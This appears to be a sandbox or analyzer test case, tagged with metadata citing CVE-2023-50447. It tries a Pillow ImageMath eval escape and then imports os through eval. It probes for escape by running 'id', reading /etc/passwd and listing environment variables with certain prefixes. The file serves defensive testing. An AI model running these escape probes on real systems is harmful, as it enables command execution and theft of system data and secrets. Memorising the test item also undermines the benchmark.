# /// case
# technique = "string-built-names"
# analysis = ["code-in-text", "forbidden-function"]
# without_analysis = "contained"
# reference = "CVE-2023-50447"
# ///
# Arithmetic on pictures, evaluated with names that the caller chose.
from PIL import Image, ImageMath
image = Image.new("L", (2, 2), 5)
evaluate = getattr(ImageMath, "unsafe_eval", None) or ImageMath.lambda_eval
try:
    found = evaluate("().__class__.__base__.__subclasses__()", image=image)
except BaseException as error:
    print("contained", type(error).__name__)
found = eval("__import__", {"image": image})("os")

def probe(os):
    actions = (
        lambda: os.popen("id").read(),
        lambda: os.read(os.open("/etc/passwd", os.O_RDONLY), 64).decode(),
        lambda: " ".join(key for key in os.environ if key.startswith(("CARGO", "CANARY"))),
    )
    for action in actions:
        try:
            text = action()
        except BaseException as error:
            print("contained", type(error).__name__)
            continue
        print("ESCAPED " + text[:40] if text.strip() else "contained, empty")

probe(found)
